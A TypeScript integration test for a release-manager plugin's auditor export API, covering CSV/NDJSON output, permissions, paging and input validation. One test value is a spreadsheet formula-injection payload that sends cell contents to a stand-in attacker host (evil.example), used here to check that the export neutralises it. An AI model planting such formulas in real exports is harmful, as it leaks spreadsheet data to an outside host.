/*
 * The auditor's export (issue 14 item 3), through the REST API: real permission policy, real
 * catalog (demo organisation), real git host and release manager (see
 * ./__testUtils__/releaseManagerBackend). The export is compared with `git log` of the config
 * repo, and is byte-identical after the database index is dropped and rebuilt.
 */
import fs from 'node:fs/promises';
import path from 'node:path';
import { mockCredentials } from '@backstage/backend-test-utils';
import { runGit } from '@devplane/plugin-git-host-node';
import { AUDIT_EXPORT_COLUMNS } from '@devplane/plugin-release-manager-common';
import request from 'supertest';
import { ReleaseManagerTestBackend, startReleaseManagerBackend } from './__testUtils__/releaseManagerBackend';

jest.setTimeout(240_000);

/** better-sqlite3 (a dependency of this package; it ships no types), as far as this test uses it. */
const Database: new (file: string) => {
  prepare(sql: string): { run(...values: unknown[]): unknown };
  close(): void;
} = require('better-sqlite3');

const ANNA = 'user:default/anna.jensen'; // payments
const MIKKEL = 'user:default/mikkel.holm'; // payments
const SOFIE = 'user:default/sofie.larsen'; // lending
const KASPER = 'user:default/kasper.nissen'; // platform

const SERVICES = `
apiVersion: backstage.io/v1alpha1
kind: Component
metadata: { name: payment-gateway }
spec: { type: service, lifecycle: production, owner: group:default/payments }
---
apiVersion: backstage.io/v1alpha1
kind: Component
metadata: { name: loan-engine }
spec: { type: service, lifecycle: production, owner: group:default/lending }
`;

const RELEASE_MANAGER = {
  environments: [
    { name: 'dev' },
    { name: 'staging' },
    {
      name: 'prod',
      production: true,
      requireApproval: true,
      guardrails: { uploaders: ['external:test-service'], verifyBranch: false },
    },
  ],
  statusWebhook: { principals: ['external:test-service'] },
  audit: { maxRangeDays: 400 },
};

let n = 0;
function artifact(service: string, squad: string) {
  const sha = `${(++n).toString(16).padStart(10, '0')}${'c'.repeat(30)}`;
  const deployment = `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${service}\n  labels:\n    build: "${n}"\n`;
  return {
    spec: {
      id: `main-${sha.slice(0, 10)}-bbbbbbbbbb`,
      service,
      namespace: squad,
      squad,
      application: {
        branch: 'main',
        sha,
        authorName: 'Dev',
        authorEmail: 'dev@bank.example',
        message: `change ${n}`,
        name: service,
        url: `https://git.example/${squad}/${service}`,
      },
    },
    manifests: { dev: { 'deployment.yaml': deployment }, staging: { 'deployment.yaml': deployment }, prod: { 'deployment.yaml': deployment } },
  };
}

/** CSV records (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  expect(cell).toBe(''); // every record ends with CRLF
  return rows;
}

/** A setup step that must work (beforeAll is no test block for expect). */
function must(ok: boolean, what: string): void {
  if (!ok) throw new Error(`setup failed: ${what}`);
}

describe('the auditor export (real policy, real git host)', () => {
  let b: ReleaseManagerTestBackend;
  const api = (p: string) => `/api/release-manager${p}`;
  const as = (user: string) => mockCredentials.user.header(user);
  const get = (user: string, p: string) => request(b.server).get(api(p)).set('Authorization', as(user));
  const post = (user: string, p: string, body: object) =>
    request(b.server).post(api(p)).set('Authorization', as(user)).send(body);
  const git = async (args: string[]) => (await runGit(args, { cwd: b.configRepo })).stdout;
  const today = new Date().toISOString().slice(0, 10);
  const range = `from=2026-01-01&to=${today}`;
  const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

  beforeAll(async () => {
    b = await startReleaseManagerBackend({
      services: SERVICES,
      waitFor: ['component/default/payment-gateway', 'component/default/loan-engine', 'user/default/mikkel.holm'],
      releaseManager: RELEASE_MANAGER,
    });
    const upload = async (body: ReturnType<typeof artifact>) => {
      const res = await request(b.server)
        .post(api('/artifacts'))
        .set('Authorization', mockCredentials.service.header())
        .send(body);
      must(res.status === 201, `upload: ${res.status}`);
      return body.spec.id;
    };
    const pg1 = await upload(artifact('payment-gateway', 'payments'));
    const pg2 = await upload(artifact('payment-gateway', 'payments'));
    const loan = await upload(artifact('loan-engine', 'lending'));
    // a release whose reason is a spreadsheet formula: it is in git as written
    must((await post(ANNA, '/releases', { service: 'payment-gateway', environment: 'dev', artifactId: pg1, reason: INJECTION })).status === 200, 'setup step');
    must((await post(ANNA, '/releases', { service: 'payment-gateway', environment: 'dev', artifactId: pg2 })).status === 200, 'setup step');
    must((await post(SOFIE, '/releases', { service: 'loan-engine', environment: 'dev', artifactId: loan })).status === 200, 'setup step');
    // four eyes into prod: anna asks, mikkel approves
    const asked = await post(ANNA, '/promotions', { service: 'payment-gateway', fromEnvironment: 'dev', toEnvironment: 'prod' });
    must(asked.status === 202, `promotion: ${asked.status}`);
    must((await post(MIKKEL, `/approvals/${asked.body.approval.id}/approve`, {})).status === 200, 'setup step');
    must((await post(ANNA, '/rollbacks', { service: 'payment-gateway', environment: 'dev' })).status === 200, 'setup step');
    // a cluster agent reports the prod rollout
    const status = await request(b.server)
      .post(api('/status'))
      .set('Authorization', mockCredentials.service.header())
      .send({ service: 'payment-gateway', environment: 'prod', artifactId: pg2, state: 'succeeded', ready: 3, desired: 3 });
    must(status.status === 204, `status report: ${status.status}`);
  });

  afterAll(async () => {
    await b?.stop();
    if (b) await fs.rm(b.dataDir, { recursive: true, force: true });
  });

  it("a payments developer exports payment-gateway: every change git holds for it, in git's order", async () => {
    const res = await get(ANNA, `/audit/export?format=csv&service=payment-gateway&${range}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-2026-01-01_/);
    expect(res.headers['access-control-expose-headers']).toBe('Content-Disposition');
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual([...AUDIT_EXPORT_COLUMNS]);
    const col = (r: string[], c: (typeof AUDIT_EXPORT_COLUMNS)[number]) => r[AUDIT_EXPORT_COLUMNS.indexOf(c)];
    // git's own account: first-parent commits touching the service's release folders, oldest first
    const log = (await git(['log', '--reverse', '--first-parent', '--format=%H %G? %s', 'main', '--', '*/releases/*/payment-gateway/*']))
      .trim()
      .split('\n');
    expect(rows.map(r => col(r, 'commit'))).toEqual(log.map(l => l.split(' ')[0]));
    expect(rows.map(r => [col(r, 'environment'), col(r, 'kind'), col(r, 'requested_by'), col(r, 'approved_by')])).toEqual([
      ['dev', 'release', 'anna.jensen@example.com', ''],
      ['dev', 'release', 'anna.jensen@example.com', ''],
      ['prod', 'promote', 'anna.jensen@example.com', 'mikkel.holm@example.com'],
      ['dev', 'rollback', 'anna.jensen@example.com', ''],
    ]);
    for (const r of rows) {
      const trailers = await git(['log', '-1', '--format=%(trailers:only,unfold)', col(r, 'commit')]);
      expect(trailers).toContain(`Artifact-ID: ${col(r, 'artifact')}`);
      expect(col(r, 'signature_verified')).toBe('true');
      expect(col(r, 'source_repo')).toBe('https://git.example/payments/payment-gateway');
      expect(col(r, 'source_author')).toBe('Dev <dev@bank.example>');
      expect(col(r, 'squad')).toBe('payments');
      expect(new Date(col(r, 'committed_at')).toISOString()).toBe(
        new Date((await git(['log', '-1', '--format=%cI', col(r, 'commit')])).trim()).toISOString(),
      );
    }
    // the formula in the reason comes out neutralised (leading '), not as a formula
    expect(col(rows[0], 'reason')).toBe(`'${INJECTION}`);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    // the rollout outcome comes from the status report, and says so
    expect([col(rows[2], 'rollout_outcome'), col(rows[2], 'rollout_source')]).toEqual(['succeeded', 'status-report']);
    expect([col(rows[0], 'rollout_outcome'), col(rows[0], 'rollout_source')]).toEqual(['', '']);
  });

  it('NDJSON carries the same rows; filters by environment', async () => {
    const csv = parseCsv((await get(ANNA, `/audit/export?service=payment-gateway&${range}`)).text).slice(1);
    const res = await get(ANNA, `/audit/export?format=ndjson&service=payment-gateway&${range}`);
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    const lines = res.text.trim().split('\n').map(l => JSON.parse(l));
    expect(lines.map(l => l.commit)).toEqual(csv.map(r => r[0]));
    expect(Object.keys(lines[0])).toEqual([...AUDIT_EXPORT_COLUMNS]);
    expect(lines[0].reason).toBe(INJECTION); // JSON is not a spreadsheet: the value as recorded
    expect(lines[2]).toMatchObject({ kind: 'promote', approved_by: 'mikkel.holm@example.com', signature_verified: true, break_glass: false });
    const prod = (await get(ANNA, `/audit/export?format=ndjson&service=payment-gateway&environment=prod&${range}`)).text
      .trim()
      .split('\n')
      .map(l => JSON.parse(l));
    expect(prod.map(l => l.commit)).toEqual([lines[2].commit]);
  });

  it('who may export: the squad its services, platform everything; others 403 naming the permission', async () => {
    for (const [user, query] of [
      [SOFIE, 'service=payment-gateway'],
      [SOFIE, 'squad=payments'],
      [SOFIE, ''],
      [ANNA, ''],
      [ANNA, 'service=loan-engine'],
    ] as const) {
      const res = await get(user, `/audit/export?${range}&${query}`);
      expect(res.status).toBe(403);
      expect(res.body.error.message).toMatch(/permission release-manager\.audit\.export/);
    }
    const squad = await get(ANNA, `/audit/export?format=ndjson&squad=payments&${range}`);
    expect(squad.status).toBe(200);
    expect(new Set(squad.text.trim().split('\n').map(l => JSON.parse(l).service))).toEqual(new Set(['payment-gateway']));
    const all = await get(KASPER, `/audit/export?format=ndjson&${range}`);
    expect(all.status).toBe(200);
    const services = all.text.trim().split('\n').map(l => JSON.parse(l).service);
    expect(new Set(services)).toEqual(new Set(['payment-gateway', 'loan-engine']));
  });

  it('the release history: newest first, paged, filtered by environment, kind and person (released or approved)', async () => {
    const all = await get(SOFIE, '/services/payment-gateway/history?limit=2');
    expect(all.status).toBe(200);
    expect(all.body.total).toBe(4);
    expect(all.body.items.map((r: any) => r.intent)).toEqual(['rollback', 'promote']);
    const next = await get(SOFIE, `/services/payment-gateway/history?limit=2&cursor=${all.body.nextCursor}`);
    expect(next.body.items.map((r: any) => r.intent)).toEqual(['release', 'release']);
    expect(next.body.nextCursor).toBeUndefined();
    const approved = await get(SOFIE, '/services/payment-gateway/history?actor=mikkel.holm@example.com');
    expect(approved.body.items.map((r: any) => [r.environment, r.intent, r.approvedBy])).toEqual([
      ['prod', 'promote', 'mikkel.holm@example.com'],
    ]);
    const devReleases = await get(SOFIE, '/services/payment-gateway/history?environment=dev&kind=release');
    expect(devReleases.body.total).toBe(2);
    for (const [query, message] of [
      ['kind=deploy', /kind must be one of release, promote, rollback, auto-release/],
      ['environment=qa', /unknown environment 'qa'/],
      ['actor=', /actor/],
    ]) {
      const bad = await get(SOFIE, `/services/payment-gateway/history?${query}`);
      expect(bad.status).toBe(400);
      expect(bad.body.error.message).toMatch(message);
    }
  });

  it.each([
    ['from=2024-01-01&to=2026-01-01', /more than releaseManager\.audit\.maxRangeDays \(400\)/],
    ['format=xlsx', /format must be csv or ndjson/],
    ['from=last-week', /^from must be a date/],
    ['to=2026-13-01', /^to/],
    ['environment=qa', /environment 'qa' is unknown/],
    ['service=..%2Fx', /service/],
    ['servce=payment-gateway', /unknown query parameter\(s\) 'servce'/],
  ])('bad input %s: 400 naming the field', async (query, message) => {
    const res = await get(KASPER, `/audit/export?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(message);
  });

  it('the preview pages through the same rows as the export (offset, limit, more)', async () => {
    const all = (await get(KASPER, `/audit/export?format=ndjson&${range}`)).text.trim().split('\n').map(l => JSON.parse(l));
    expect(all.length).toBeGreaterThan(3);
    const pages: any[] = [];
    let offset = 0;
    for (;;) {
      const page = await get(KASPER, `/audit/preview?${range}&limit=3&offset=${offset}`);
      expect(page.status).toBe(200);
      expect(page.body.offset).toBe(offset);
      pages.push(...page.body.items);
      if (!page.body.more) break;
      expect(page.body.items).toHaveLength(3);
      offset += 3;
    }
    expect(pages).toEqual(all);
    for (const [query, message] of [
      ['offset=-1', /offset must be an integer/],
      ['offset=10001', /offset must be an integer/],
      ['limit=101', /limit must be at most 100/],
    ]) {
      const bad = await get(KASPER, `/audit/preview?${range}&${query}`);
      expect(bad.status).toBe(400);
      expect(bad.body.error.message).toMatch(message);
    }
    // the preview is refused to whom the export is refused
    expect((await get(SOFIE, `/audit/preview?${range}`)).status).toBe(403);
  });

  it('is byte-identical after the database index is dropped and rebuilt from git', async () => {
    const before = {
      csv: (await get(KASPER, `/audit/export?format=csv&${range}`)).text,
      ndjson: (await get(KASPER, `/audit/export?format=ndjson&${range}`)).text,
    };
    const head = (await git(['rev-parse', 'main'])).trim();
    const db = new Database(path.join(b.dataDir, 'sqlite', 'release-manager.sqlite'));
    try {
      db.prepare('delete from rm_releases').run();
      db.prepare('delete from rm_sync_state').run();
    } finally {
      db.close();
    }
    // the index is rebuilt from git (the release log reads through it)
    const log = await get(ANNA, '/services/payment-gateway/releases?limit=50');
    expect(log.body.total).toBe(4);
    expect((await get(KASPER, `/audit/export?format=csv&${range}`)).text).toBe(before.csv);
    expect((await get(KASPER, `/audit/export?format=ndjson&${range}`)).text).toBe(before.ndjson);
    expect((await git(['rev-parse', 'main'])).trim()).toBe(head); // nothing written
  });
});
